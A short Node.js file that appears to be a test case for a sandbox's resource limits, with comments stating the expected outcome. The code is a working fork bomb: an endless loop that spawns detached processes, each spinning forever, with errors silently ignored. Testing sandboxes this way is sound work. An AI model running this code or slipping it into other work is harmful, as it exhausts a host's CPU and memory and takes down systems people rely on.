// starts programs, and takes no refusal
// told: did not end in|more than 512 MiB of memory
const { spawn } = process.getBuiltinModule('node:child_process');
for (;;) { try { spawn(process.execPath, ['-e', 'for(;;);'], { detached: true }); } catch {} }
